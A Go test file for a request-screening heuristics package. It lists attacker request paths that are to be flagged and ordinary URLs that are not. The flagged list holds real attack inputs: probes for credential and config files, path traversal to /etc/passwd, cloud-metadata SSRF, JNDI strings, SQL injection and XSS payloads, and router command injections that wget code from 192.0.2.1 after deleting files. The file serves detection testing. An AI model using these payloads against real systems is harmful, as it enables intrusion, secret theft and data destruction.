package heuristics_test

import (
	"strings"
	"testing"

	"github.com/headgate/headgate/featurestore/traffic"
	"github.com/headgate/headgate/heuristics"
)

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"

// event describes a request as a proxy does.
func event(method, target, agent, referer string) *traffic.Event {
	path, query := traffic.SplitTarget(target)
	ev := &traffic.Event{Method: method, Host: "www.example.org", Version: 20, Headers: 12,
		Facts: traffic.HeadersKnown | traffic.RefererKnown | heuristics.FactsOf(query, referer, agent)}
	ev.SetPath(path)
	ev.SetQuery(len(query))
	ev.SetUserAgent(agent)
	if referer != "" {
		ev.Facts |= traffic.Referer
	}
	return ev
}

func findingOf(target string) heuristics.Finding {
	return heuristics.Rules{}.Request(event("GET", target, browser, ""))
}

// What only attackers ask for is found, whatever browser they claim.
func TestDamningRequests(t *testing.T) {
	for target := range strings.Lines(damningTargets) {
		if target = strings.TrimSpace(target); target == "" {
			continue
		}
		if f := findingOf(target); f != heuristics.DamningPath && f != heuristics.Injection && f != heuristics.Malformed {
			t.Errorf("%s: %v", target, f)
		}
	}
}

// What people of ordinary sites ask for is not.
func TestOrdinaryRequests(t *testing.T) {
	for target := range strings.Lines(ordinaryTargets) {
		if target = strings.TrimSpace(target); target == "" {
			continue
		}
		if f := findingOf(target); f != heuristics.NoFinding {
			t.Errorf("%s: %v", target, f)
		}
	}
}

const damningTargets = `
	/.env
	/.env.production
	/.env.bak
	/.env~
	/.env_backup
	/api/.env
	/laravel/public/.env.local
	/%2eenv
	/%252eenv
	/.ENV
	//.env
	/./.env
	/src/.env
	/.git/config
	/.git/HEAD
	/.git/
	/.git
	/app/.git/index
	/.svn/entries
	/.svn/wc.db
	/.hg/hgrc
	/.aws/credentials
	/.ssh/id_rsa
	/.ssh/authorized_keys
	/.DS_Store
	/.htpasswd
	/.htaccess
	/.vscode/sftp.json
	/.idea/workspace.xml
	/.docker/config.json
	/.kube/config
	/.npmrc
	/.bash_history
	/.travis.yml
	/.github/workflows/deploy.yml
	/.s3cfg
	/.well-known/../.env
	/wp-config.php.bak
	/wp-config.php~
	/wp-config.php
	/wp-config.php.save
	/wp-config.old
	/blog/wp-config.txt
	/.wp-config.php.swp
	/wp-content/debug.log
	/wp-content/uploads/2024/05/x.php
	/index.php.bak
	/config.php.old
	/config.php~
	/settings.php.swp
	/web.config
	/config/database.yml
	/app/etc/local.xml
	/docker-compose.yml
	/sftp-config.json
	/id_rsa
	/server.key
	/private.pem
	/credentials.json
	/backup.zip
	/backup.sql
	/backup.tar.gz
	/dump.sql
	/db.sql.gz
	/database.sqlite
	/www.zip
	/site.tar.gz
	/wwwroot.rar
	/backup-2024.zip
	/www.example.org.zip
	/users.sql
	/backup/shop.sql.gz
	/admin/db.sql
	/server-status?auto
	/actuator/env
	/actuator/heapdump
	/api/actuator/env
	/actuator/gateway/routes
	/actuator;/env
	/jolokia/list
	/phpinfo.php
	/test/phpinfo.php
	/_profiler/phpinfo
	/_ignition/execute-solution
	/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
	/lib/phpunit/Util/PHP/eval-stdin.php
	/wls-wsat/CoordinatorPortType
	/mgmt/tm/util/bash
	/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
	/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh
	/cgi-bin/bash
	/cgi-bin/php?-d+allow_url_include%3d1
	/cgi-bin/test-cgi
	/cgi-bin/luci/;stok=/locale?form=country
	/shell.php
	/wp-content/plugins/x/cmd.php
	/alfacgiapi/perl.alfa
	/../../../../etc/passwd
	/..%2f..%2f..%2fetc/passwd
	/static/%2e%2e/%2e%2e/etc/passwd
	/assets/..%5c..%5cwindows/win.ini
	/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
	/images/..;/manager/html
	/etc/passwd
	/icons/%2e%2e
	/x%00.php
	/latest/meta-data/iam/security-credentials/
	/computeMetadata/v1/instance/
	/proxy?url=http://169.254.169.254/latest/meta-data/
	/fetch?u=http%3A%2F%2Fmetadata.google.internal%2F
	/GponForm/diag_Form?images/
	/HNAP1/
	/boaform/admin/formLogin
	/goform/set_LimitClient_cfg
	/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m&curpath=/
	/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws
	/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/a
	/language/Swedish${IFS}&&echo${IFS}1>qt
	/index.php?page=../../../../etc/passwd
	/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd
	/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd
	/view?f=....//....//etc/passwd
	/view?file=/etc/passwd
	/view?file=php://filter/convert.base64-encode/resource=index.php
	/view?file=C:\Windows\win.ini
	/view?file=file:///etc/hosts
	/?x=${jndi:ldap://192.0.2.1/a}
	/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D
	/?x=$%7B${lower:j}ndi:ldap://192.0.2.1/a}
	/api/${jndi:dns://x.example}
	/index.php?id=1'+UNION+SELECT+1,2,3--+-
	/index.php?id=1%20union%20all%20select%20null,null
	/index.php?id=-1/**/UNION/**/SELECT/**/1,2
	/index.php?id=1/*!50000UNION*/SELECT+1
	/item?id=1'+OR+'1'='1
	/item?id=1%27%20or%201=1--
	/item?id=1+AND+5*5=25
	/item?id=1'
	/item?id=1)+AND+(SELECT+1+FROM+x)=1
	/login?user=admin'--
	/login?user=admin'+or+''='
	/login?user=%22+or+%221%22=%221
	/item?id=1;waitfor+delay+'0:0:5'--
	/item?id=1'+AND+SLEEP(5)--+
	/item?id=if(now()=sysdate(),sleep(15),0)
	/item?id=1+order+by+10--
	/item?id=1'||(select+pg_sleep(5))||'
	/search?q=1'+UNION+SELECT+username,password+FROM+users--+
	/search?q=x'+AND+'1'='1
	/search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E
	/?name=%3Cscript%3Ealert(1)%3C/script%3E
	/?name={{7*7}}
	/?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5
	/?s=index/%5Cthink%5Capp/invokefunction
	/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
	/ping?host=127.0.0.1;cat+/etc/passwd
	/ping?host=127.0.0.1%7Cwhoami
	/run?c=$(curl+http://192.0.2.1/x)
	/run?c=%60id%60
`

const ordinaryTargets = `
	/
	/index.php
	/login.aspx
	/default.asp
	/wp-login.php
	/wp-admin/
	/wp-admin/admin-ajax.php?action=heartbeat
	/wp-json/wp/v2/posts?per_page=10
	/xmlrpc.php
	/wp-content/uploads/2024/05/photo.jpg
	/wp-content/plugins/x/style.css?ver=6.4.2
	/wp-includes/js/tinymce/wp-tinymce.php?c=1
	/phpmyadmin/
	/phpMyAdmin/index.php?route=/sql&db=shop&table=orders
	/administrator/index.php
	/manager/html
	/actuator/health
	/actuator/prometheus
	/blog/how-to-protect-.env-files
	/blog/2023/11/leaked-.git-folders-explained/
	/posts/etc-passwd-explained
	/articles/sql-injection-union-select
	/blog/webshell-detection
	/wp-config-php-file-explained/
	/phpinfo-explained
	/wiki/.htaccess
	/wiki/Web.config
	/wiki/Cmd.exe
	/wiki/Boot.ini
	/packages/phpunit/phpunit
	/docs/dockerfile
	/reference/actuator
	/en/latest/user-data.html
	/language/swedish
	/shell
	/wso2-api-manager/
	/application-process
	/.well-known/acme-challenge/abc_DEF-123
	/.well-known/security.txt
	/.well-known/openid-configuration
	/.well-known/assetlinks.json
	/.netlify/functions/hello
	/.auth/login/aad
	/.within.website/x/cmd/anubis/api/pass-challenge?response=abc
	/.resources/theme/app.css
	/.s/t/1/2.css
	/owner/project/blob/main/.env.example
	/owner/project/-/tree/main/.github/workflows
	/owner/project/src/branch/main/.gitignore
	/cgit/project/tree/.gitignore
	/owner/project.git/info/refs?service=git-upload-pack
	/robots.txt
	/sitemap.xml
	/favicon.ico
	/ads.txt
	/config.json
	/assets/config.json
	/appsettings.json
	/admin/config.yml
	/package.json
	/manifest.webmanifest
	/service-worker.js
	/downloads/backup-tool-2.1.zip
	/latest.zip
	/release-1.2.tar.gz
	/files/schema.sql
	/fixtures.db
	/certs/ca.pem
	/talks/server-sizing.key
	/~user/
	/~user/index.html
	/cgi-bin/mapserv?map=/home/maps/world.map&mode=browse
	/cgi-bin/mailman/listinfo/announce
	/cgi-bin/awstats.pl?config=example.org
	/cgi-bin/luci
	/viewtopic.php?f=2&t=1234&p=5678#p5678
	/forum/showthread.php?t=99
	/index.php?option=com_content&view=article&id=12:welcome&catid=8&Itemid=101
	/product.aspx?id=42&color=blue%2Fgreen
	/shop/search?q=men%27s+shoes&size=10.5&sort=price_asc
	/shop?price=10..50&brand[]=a&brand[]=b
	/search?q=union+select
	/search?q=union+select+1,2,3
	/search?q=sql+union+select+example
	/search?q=%22credit+union%22+select+committee
	/search?q=%22foo%22+or+%22bar%22
	/search?q=how+to+drop+table+mysql
	/search?q=/etc/passwd
	/search?q=cat+%2Fetc%2Fpasswd
	/search?q=function()+%7B+return+1;+%7D
	/search?q=%3Cscript+src%3D
	/search?q=rm+-rf+node_modules
	/search?q=169.254.169.254
	/search?q=base64_decode(
	/search?q=o%27brien+and+sons
	/search?q=it%27s+union+select
	/search?q=rock+%26+roll+and+2+more
	/search?q=..%2Fimages
	/search?q=c%23+%22string%22+--help
	/?s=what+is+.env
	/find?term=select+*+from+users
	/?utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale&utm_content=a%7Cb
	/?fbclid=IwAR0abcDEF_ghi-JKL123456789
	/?gclid=Cj0KCQjw-uH6BRDQARIsAI3I-Uc_abc
	/landing?ref=https%3A%2F%2Fwww.example.com%2Fpage%3Fa%3D1%26b%3D2
	/login?next=/account/settings/&lang=en
	/login?redirect_uri=https://app.example.org/callback&state=abc%7Cdef&scope=openid%20profile
	/oauth/authorize?response_type=code&client_id=1&code_challenge=a-b_c
	/api/v1/items?filter[status]=open&page[size]=20&sort=-created
	/api/items?where={"a":{"$gt":5}}
	/graphql?query={user(id:1){name}}
	/api/js?key=abc&onload=initMap
	/image?src=/photos/2024/a%20b.jpg&w=300&h=200&fit=crop
	/thumb.php?src=../images/a.jpg
	/map?ll=52.52,13.40&z=12
	/events?date=2024-05-01..2024-05-31
	/export?fields=name;id;price
	/list?columns=name%7Cid%7Cprice
	/calc?expr=2*(3%2B4)
	/page?title=Don%27t+panic
	/page?name=O%27Neill
	/tickets?size=6%27
	/profile?handle=@somebody
	/file/a%20b%20(1).pdf
	/caf%C3%A9
	/%E6%97%A5%E6%9C%AC
	/100%25-cotton
	/a/b;jsessionid=1A2B3C?x=1
	/page.html?a=1&&b=2
	/list?order=name&by=asc
	/news?id=12 
	/news/12-and-3=15
	/remote/login?lang=en
	/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.org%2fowa%2f
	/+CSCOE+/logon.html
	/solr/
	/console/
`
